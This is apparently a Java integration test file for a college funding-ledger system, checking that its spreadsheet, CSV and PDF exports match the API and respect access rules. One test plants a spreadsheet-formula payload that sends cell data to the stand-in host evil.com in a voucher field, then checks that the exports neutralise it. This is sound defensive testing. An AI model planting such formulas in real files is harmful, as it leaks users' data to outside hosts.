package cn.jsedu.ledger.system.export;

import cn.jsedu.ledger.system.Commands;
import cn.jsedu.ledger.query.export.ExportTimes;
import cn.jsedu.ledger.system.LedgerSystem;
import com.fasterxml.jackson.databind.JsonNode;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.temporal.ChronoUnit;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.StreamSupport;

import static cn.jsedu.ledger.testsupport.Api.expect;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The exports read back as a user would open them: the spreadsheets with Apache POI (cells, not bytes), the CSV with
 * Commons CSV, the PDF dossier's text with PDFBox. Every figure must equal the JSON API's, and every event id they
 * name must be an event of the platform's history.
 */
class ExportIT {

    private static final String P = "EXP-1";
    private static LedgerSystem ledger;
    private static long version;

    @BeforeAll
    static void platform() {
        ledger = LedgerSystem.get();
        Commands commands = new Commands(ledger.commands);
        commands.approvedPlatform(P, "8700000001");
        commands.taskBook(P);
        commands.installment(P, "I-PROV", "PROVINCIAL_FINANCE", "10000000.00", "2020-04-01");
        commands.installment(P, "I-COLL", "COLLEGE", "5000000.00", "2020-05-01");
        commands.contribution(P, "C-E1", "E1", "CASH", "6000000.00", "2020-04-15");
        commands.contribution(P, "C-E2", "E2", "EQUIPMENT", "4000000.00", "2020-05-20");
        commands.expenditure(P, "X-1", "PROVINCIAL_FINANCE", null, "800000.00", "2020-05-10");
        version = commands.correction(P, "K-1", "I-COLL", "4800000.00");
        expect(ledger.queries.get("/api/v1/platforms/" + P + "?minVersion=" + version), 200);
    }

    @Test
    void balancesSpreadsheetHasTheApiFiguresAndTheEventsTheyWereSummedFrom() throws IOException {
        JsonNode api = get("/api/v1/platforms/" + P + "/balances");
        Download.File file = download("/api/v1/platforms/" + P + "/balances.xlsx", "finance");
        assertThat(file.contentType()).startsWith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(file.disposition()).contains("EXP-1-balances.xlsx");
        Map<String, String> ledgerIds = new HashMap<>();
        get("/api/v1/platforms/" + P + "/history").forEach(e -> ledgerIds.put(e.path("eventId").asText(), e.path("type").asText()));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(file.bytes()))) {
            Sheet sheet = book.getSheetAt(0);
            Map<String, Integer> columns = columns(sheet);
            assertThat(sheet.getRow(0).getCell(columns.get("receivedCash")).getStringCellValue()).isEqualTo("到位（现金）");
            // "received" in two meanings, each labelled: before recoveries, and in place (issue 16)
            assertThat(sheet.getRow(0).getCell(columns.get("received")).getStringCellValue()).isEqualTo("到位合计（未扣追回）");
            assertThat(sheet.getRow(0).getCell(columns.get("netReceived")).getStringCellValue()).isEqualTo("实际到位（扣除追回）");
            int checked = 0;
            for (JsonNode source : api.path("sources")) {
                Row row = rowWith(sheet, columns.get("source"), source.path("source").asText(), columns.get("level"), "SOURCE");
                for (String figure : List.of("planned", "receivedCash", "receivedNonCash", "spent", "recovered", "cashBalance",
                        "netReceived")) {
                    assertThat(money(row, columns.get(figure))).as(source.path("source") + " " + figure)
                            .isEqualTo(source.path("figures").path(figure).asText());
                }
                String ids = row.getCell(columns.get("eventIds")).getStringCellValue();
                for (String id : ids.isBlank() ? List.<String>of() : Arrays.asList(ids.split(" "))) {
                    assertThat(ledgerIds).containsKey(id);
                    checked++;
                }
            }
            Row provincial = rowWith(sheet, columns.get("source"), "PROVINCIAL_FINANCE", columns.get("level"), "SOURCE");
            assertThat(provincial.getCell(columns.get("eventIds")).getStringCellValue().split(" "))
                    .extracting(ledgerIds::get).containsExactly("InstallmentRecordedEvent", "ExpenditureRecordedEvent");
            assertThat(checked).isEqualTo(6); // two installments, two contributions, one expenditure, one correction
            Row total = rowWith(sheet, columns.get("level"), "TOTAL", columns.get("level"), "TOTAL");
            assertThat(money(total, columns.get("received"))).isEqualTo(api.path("total").path("received").asText());
            assertThat(money(total, columns.get("received"))).isEqualTo("24800000.00");
        }
    }

    @Test
    void ledgerCsvHasOneRowPerMoneyEventWithItsIdAndTheSameSumsAsTheApi() throws IOException {
        Download.File file = download("/api/v1/platforms/" + P + "/ledger.csv", "auditor");
        assertThat(file.contentType()).startsWith("text/csv");
        ExportCsv read = ExportCsv.read(file);
        List<CSVRecord> rows = read.rows();
        assertThat(read.label("entryId")).isEqualTo("分录编号");
        assertThat(read.label("recordedAt")).isEqualTo("记录时间（北京时间）");
        JsonNode history = get("/api/v1/platforms/" + P + "/history");
        Map<String, JsonNode> events = new HashMap<>();
        history.forEach(e -> events.put(e.path("eventId").asText(), e));
        assertThat(rows).hasSize(6);
        for (CSVRecord row : rows) {
            JsonNode event = events.get(row.get("eventId"));
            assertThat(event).as(row.get("eventId")).isNotNull();
            assertThat(row.get("sequenceNumber")).isEqualTo(event.path("sequenceNumber").asText());
            // Beijing time as the console shows it, the offset written so that the instant is the API's
            assertThat(row.get("recordedAt")).endsWith("+08:00");
            assertThat(OffsetDateTime.parse(row.get("recordedAt"), ExportTimes.FORMAT).toInstant()).isEqualTo(
                    Instant.parse(event.path("recordedAt").asText()).truncatedTo(ChronoUnit.SECONDS));
        }
        CSVRecord correction = rows.stream().filter(r -> r.get("entryId").equals("K-1")).findFirst().orElseThrow();
        assertThat(correction.get("kind")).isEqualTo("ADJUSTMENT");
        assertThat(correction.get("originalEntryId")).isEqualTo("I-COLL");
        assertThat(correction.get("receivedCash")).isEqualTo("-200000.00");
        assertThat(correction.get("effectiveDate")).isEqualTo("2020-05-01");
        JsonNode balances = get("/api/v1/platforms/" + P + "/balances");
        BigDecimal college = rows.stream().filter(r -> r.get("source").equals("COLLEGE"))
                .map(r -> new BigDecimal(r.get("receivedCash"))).reduce(BigDecimal.ZERO, BigDecimal::add);
        assertThat(college.toPlainString()).isEqualTo(source(balances, "COLLEGE").path("figures").path("receivedCash").asText());

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
                download("/api/v1/platforms/" + P + "/ledger.xlsx", "auditor").bytes()))) {
            Sheet sheet = book.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(1 + rows.size());
            Map<String, Integer> columns = columns(sheet);
            Row k1 = rowWith(sheet, columns.get("entryId"), "K-1", columns.get("entryId"), "K-1");
            assertThat(money(k1, columns.get("receivedCash"))).isEqualTo("-200000.00");
            assertThat(k1.getCell(columns.get("eventId")).getStringCellValue()).isEqualTo(correction.get("eventId"));
        }
    }

    /**
     * CSV injection: a voucher reference typed as a spreadsheet formula comes back from ledger.csv as text (a leading
     * single quote), while the negative amount of a correction in the same file stays a number; the spreadsheet
     * export keeps the typed text as a text cell, which Excel never evaluates.
     */
    @Test
    void aVoucherReferenceTypedAsAFormulaIsExportedAsTextAndAmountsStayNumbers() throws IOException {
        String platform = "EXP-FORMULA";
        String hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
        Commands commands = new Commands(ledger.commands);
        commands.approvedPlatform(platform, "8700000002");
        expect(commands.post(platform, "installments", """
                {"entryId":"I-HOSTILE","source":"COLLEGE","form":"CASH","amount":"5000000.00","effectiveDate":"2020-05-01",
                 "voucherRef":"%s"}""".formatted(hostile.replace("\"", "\\\""))), 201);
        long last = commands.correction(platform, "K-HOSTILE", "I-HOSTILE", "4800000.00");
        expect(ledger.queries.get("/api/v1/platforms/" + platform + "?minVersion=" + last), 200);

        List<CSVRecord> rows = csv(download("/api/v1/platforms/" + platform + "/ledger.csv", "auditor"));
        CSVRecord installment = rows.stream().filter(r -> r.get("entryId").equals("I-HOSTILE")).findFirst().orElseThrow();
        assertThat(installment.get("voucherRef")).isEqualTo("'" + hostile);
        assertThat(installment.get("receivedCash")).isEqualTo("5000000.00");
        CSVRecord correction = rows.stream().filter(r -> r.get("entryId").equals("K-HOSTILE")).findFirst().orElseThrow();
        assertThat(correction.get("receivedCash")).isEqualTo("-200000.00");
        assertThat(rows).allSatisfy(row -> row.forEach(cell -> assertThat(cell).doesNotStartWith("=")));

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
                download("/api/v1/platforms/" + platform + "/ledger.xlsx", "auditor").bytes()))) {
            Sheet sheet = book.getSheetAt(0);
            Map<String, Integer> columns = columns(sheet);
            Row row = rowWith(sheet, columns.get("entryId"), "I-HOSTILE", columns.get("entryId"), "I-HOSTILE");
            assertThat(row.getCell(columns.get("voucherRef")).getCellType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(columns.get("voucherRef")).getStringCellValue()).isEqualTo(hostile);
        }
    }

    @Test
    void complianceExportsCarryTheProgrammeApiRowsTotalsAndEvidence() throws IOException {
        JsonNode api = get("/api/v1/programme/compliance?size=500");
        JsonNode apiRow = row(api.path("rows"), P);
        List<CSVRecord> rows = csv(download("/api/v1/programme/compliance.csv", "finance"));
        CSVRecord csvRow = rows.stream().filter(r -> r.get("platformId").equals(P)).findFirst().orElseThrow();
        for (String field : List.of("plannedTotal", "plannedEnterprise", "actualTotal", "actualEnterprise", "recoveryDue",
                "plannedTotalMet", "actualEnterpriseShareMet", "arrivalBehindSchedule", "status",
                "actualEnterprisePercent")) {
            assertThat(csvRow.get(field)).as(field).isEqualTo(apiRow.path(field).asText());
        }
        assertThat(rows).hasSize((int) api.path("totalRows").asLong());
        Set<String> history = ids(get("/api/v1/platforms/" + P + "/history"));
        assertThat(history).contains(csvRow.get("planEventId"));
        assertThat(csvRow.get("receiptEventIds").split(" ")).hasSize(5).allSatisfy(id -> assertThat(history).contains(id));

        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
                download("/api/v1/programme/compliance.xlsx", "auditor").bytes()))) {
            Sheet sheet = book.getSheet("合规 compliance");
            Map<String, Integer> columns = columns(sheet);
            Row row = rowWith(sheet, columns.get("platformId"), P, columns.get("platformId"), P);
            assertThat(money(row, columns.get("actualTotal"))).isEqualTo(apiRow.path("actualTotal").asText());
            assertThat(row.getCell(columns.get("plannedTotalMet")).getBooleanCellValue()).isTrue();
            Cell percent = row.getCell(columns.get("actualEnterprisePercent"));
            assertThat(percent.getCellStyle().getDataFormatString()).isEqualTo("0.00%");
            assertThat(BigDecimal.valueOf(percent.getNumericCellValue()).movePointRight(2).setScale(2, RoundingMode.HALF_UP))
                    .isEqualByComparingTo(apiRow.path("actualEnterprisePercent").asText());
            assertThat(sheet.getRow(0).getCell(columns.get("actualEnterprisePercent")).getStringCellValue())
                    .isEqualTo("企业实际占比（%）");
            Sheet totals = book.getSheet("合计 totals");
            Map<String, Integer> t = columns(totals);
            assertThat(money(totals.getRow(2), t.get("actualTotal"))).isEqualTo(api.path("totals").path("actualTotal").asText());
            assertThat((long) totals.getRow(2).getCell(t.get("platforms")).getNumericCellValue())
                    .isEqualTo(api.path("totals").path("platforms").asLong());
        }
    }

    @Test
    void readinessExportsListEveryItemWithTheApiVerdictAndEvidence() throws IOException {
        JsonNode platform = get("/api/v1/platforms/" + P + "/readiness");
        JsonNode programmeRow = row(get("/api/v1/programme/readiness?size=500").path("rows"), P);
        List<CSVRecord> rows = csv(download("/api/v1/programme/readiness.csv", "auditor")).stream()
                .filter(r -> r.get("platformId").equals(P)).toList();
        assertThat(rows).hasSize(platform.path("items").size());
        for (JsonNode item : platform.path("items")) {
            CSVRecord row = rows.stream().filter(r -> r.get("item").equals(item.path("code").asText())).findFirst().orElseThrow();
            assertThat(row.get("met")).isEqualTo(item.path("met").asText());
            assertThat(row.get("value")).isEqualTo(item.path("value").asText());
            assertThat(row.get("evidenceEventIds")).isEqualTo(StreamSupport.stream(item.path("evidence").spliterator(), false)
                    .map(JsonNode::asText).collect(Collectors.joining(" ")));
            assertThat(row.get("overall")).isEqualTo(programmeRow.path("overall").asText())
                    .isEqualTo(platform.path("overall").asText());
        }
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
                download("/api/v1/programme/readiness.xlsx", "admin1").bytes()))) {
            Sheet sheet = book.getSheetAt(0);
            Map<String, Integer> columns = columns(sheet);
            Row agreement = rowWith(sheet, columns.get("platformId"), P, columns.get("item"), "AGREEMENT_SIGNED");
            assertThat(agreement.getCell(columns.get("met")).getBooleanCellValue()).isTrue();
            assertThat(ids(get("/api/v1/platforms/" + P + "/history")))
                    .contains(agreement.getCell(columns.get("evidenceEventIds")).getStringCellValue());
        }
    }

    @Test
    void dossierPdfIsChineseTextWithChecklistFundingDecisionsAndVerification() throws IOException {
        Download.File file = download("/api/v1/platforms/" + P + "/dossier.pdf", "auditor");
        assertThat(file.status()).isEqualTo(200);
        assertThat(file.contentType()).isEqualTo("application/pdf");
        String text;
        try (PDDocument pdf = Loader.loadPDF(file.bytes())) {
            text = new PDFTextStripper().getText(pdf);
        }
        // table cells wrap long labels over lines: compare without line breaks
        assertThat(text.replaceAll("\\s+", "")).contains("江苏省高等职业教育产教融合集成平台验收材料", "测试职业技术学院", "智能制造专业群",
                "一、验收条件检查", "企业到位资金占比不低于三分之一", "已签订共建协议",
                "二、资金情况", "省财政专项资金（含奖补）", "合作企业", "甲企业",
                "三、决定记录", "四、防篡改校验结果", "通过：事件链完整", "第1页/共", "经办人（签字）", "单位（盖章）");
        // the verdict and every readiness phrase in words: none of the API's codes or English phrases
        assertThat(text).doesNotContain("READY", "signed", "due reports", "≥");
        JsonNode balances = get("/api/v1/platforms/" + P + "/balances");
        assertThat(text).contains("10,000,000.00", "9,200,000.00"); // provincial received, and its cash balance
        assertThat(source(balances, "PROVINCIAL_FINANCE").path("figures").path("cashBalance").asText()).isEqualTo("9200000.00");
        for (JsonNode event : get("/api/v1/platforms/" + P + "/history")) {
            if (event.path("type").asText().equals("InstallmentRecordedEvent")) {
                assertThat(text).contains(event.path("eventId").asText());
            }
        }
    }

    @Test
    void exportsFollowTheApisAccessRules() {
        assertThat(download("/api/v1/platforms/" + P + "/dossier.pdf", "college-8700000001").status()).isEqualTo(200);
        assertThat(download("/api/v1/platforms/" + P + "/ledger.csv", "college-8799999999").status()).isEqualTo(404);
        assertThat(download("/api/v1/programme/compliance.xlsx", "college-8700000001").status()).isEqualTo(403);
        assertThat(Download.get(ledger.queries.base(), "/api/v1/programme/readiness.csv", "nobody").status()).isEqualTo(401);
        assertThat(Download.get(ledger.queries.base(), "/api/v1/platforms/NO-SUCH/balances.xlsx", "auditor").status())
                .isEqualTo(404);
    }

    private static Download.File download(String path, String user) {
        Download.File file = Download.get(ledger.queries.base(), path, user);
        if (file.status() != 200 && user.equals("auditor")) {
            throw new AssertionError(path + ": " + file.status() + " " + file.text());
        }
        return file;
    }

    private static JsonNode get(String path) {
        return expect(ledger.queries.get(path), 200).json();
    }

    private static JsonNode source(JsonNode balances, String source) {
        for (JsonNode s : balances.path("sources")) {
            if (s.path("source").asText().equals(source)) {
                return s;
            }
        }
        throw new AssertionError("no source " + source);
    }

    private static JsonNode row(JsonNode rows, String platformId) {
        for (JsonNode r : rows) {
            if (r.path("platformId").asText().equals(platformId)) {
                return r;
            }
        }
        throw new AssertionError("no row for " + platformId);
    }

    private static Set<String> ids(JsonNode history) {
        return StreamSupport.stream(history.spliterator(), false).map(e -> e.path("eventId").asText()).collect(Collectors.toSet());
    }

    private static List<CSVRecord> csv(Download.File file) throws IOException {
        return ExportCsv.read(file).rows();
    }

    /** Column index by key (row 2 of every sheet holds the API's field names). */
    private static Map<String, Integer> columns(Sheet sheet) {
        Map<String, Integer> columns = new HashMap<>();
        sheet.getRow(1).forEach(cell -> columns.put(cell.getStringCellValue(), cell.getColumnIndex()));
        return columns;
    }

    private static Row rowWith(Sheet sheet, int column, String value, int column2, String value2) {
        for (int r = 2; r <= sheet.getLastRowNum(); r++) {
            Row row = sheet.getRow(r);
            if (value.equals(text(row, column)) && value2.equals(text(row, column2))) {
                return row;
            }
        }
        throw new AssertionError("no row with " + value + " and " + value2);
    }

    private static String text(Row row, int column) {
        return row.getCell(column) == null ? null : row.getCell(column).getStringCellValue();
    }

    /** A money cell back to the API's decimal string. */
    private static String money(Row row, int column) {
        return BigDecimal.valueOf(row.getCell(column).getNumericCellValue()).setScale(2, RoundingMode.HALF_UP).toPlainString();
    }
}
